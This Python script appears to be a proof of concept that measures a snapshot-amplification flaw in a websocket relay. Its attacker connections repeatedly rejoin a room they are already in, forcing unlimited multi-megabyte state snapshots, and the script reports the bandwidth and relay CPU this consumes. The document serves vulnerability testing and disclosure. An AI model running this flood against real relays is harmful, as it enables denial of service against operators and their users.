"""Full-snapshot amplification: JoinRoom for a room the session is already in schedules a
full snapshot with no rate limit, while Resync is limited to one per second.

Run (relay on TR_URL, its pid in TR_PID): python3 leave_join_amplify.py [seconds] [attackers]
Fills room 'big' with ~3 MiB of state, then for `seconds` each phase:
  phase A: attackers send Request{resync} 25/s
  phase B: attackers send JoinRoom(same room) 25/s
and reports bytes received by the attackers, full snapshots received and relay CPU."""
import asyncio, sys, time
from tr import *
from fill import fill

SECS = float(sys.argv[1]) if len(sys.argv) > 1 else 15
N = int(sys.argv[2]) if len(sys.argv) > 2 else 2
ROOM = "big"


async def attacker(mode, secs, stats):
    ws = await connect()
    await ws.recv()
    await ws.send(env(join(ROOM, 1, "relay")))
    await recv_until(ws, lambda m: m.WhichOneof("kind") == "joined")
    await drain(ws, 1.0)
    stop = time.time() + secs
    rid = 10

    async def sender():
        nonlocal rid
        while time.time() < stop:
            rid += 1
            if mode == "resync":
                await ws.send(env(cm(request=pb.Request(request_id=rid, resync=pb.Resync(room=ROOM)))))
            elif mode == "leavejoin":
                rid += 1
                await ws.send(env(cm(leave=pb.LeaveRoom(request_id=rid - 1, room=ROOM)), join(ROOM, rid, "relay")))
            else:
                await ws.send(env(join(ROOM, rid, "relay")))
            await asyncio.sleep(1 / 25)

    async def reader():
        while time.time() < stop:
            try:
                d = await asyncio.wait_for(ws.recv(), 0.2)
            except asyncio.TimeoutError:
                continue
            stats["bytes"] += len(d)
            if len(d) > 1_000_000:
                stats["full"] += 1  # only a full snapshot of this room is that big
            elif len(d) < 4096:
                for m in decode(d).messages:
                    if m.WhichOneof("kind") == "error":
                        stats["errors"] += 1
    await asyncio.gather(sender(), reader())
    await ws.close()


async def phase(mode, pid):
    stats = {"bytes": 0, "full": 0, "errors": 0}
    c0, t0 = cpu_secs(pid), time.time()
    await asyncio.gather(*[attacker(mode, SECS, stats) for _ in range(N)])
    dt = time.time() - t0
    cpu = (cpu_secs(pid) - c0) / dt
    print(f"{mode:7s}: {N} attackers x {SECS:.0f}s: full snapshots {stats['full']}, "
          f"{stats['bytes']/dt/1e6:.1f} MB/s to attackers, errors {stats['errors']}, relay CPU {cpu*100:.0f}%")


async def main():
    pid = pid_of_relay()
    wss, readers = await fill(ROOM, conns=8, kib_per_conn=380)
    await asyncio.sleep(1)
    c0 = cpu_secs(pid); await asyncio.sleep(3)
    print(f"idle (fillers only): relay CPU {(cpu_secs(pid)-c0)/3*100:.0f}%  RSS {rss_kib(pid)} KiB")
    await phase("resync", pid)
    await phase("rejoin", pid)
    await phase("leavejoin", pid)
    print(f"RSS {rss_kib(pid)} KiB")
    for w in wss:
        await w.close()

asyncio.run(main())
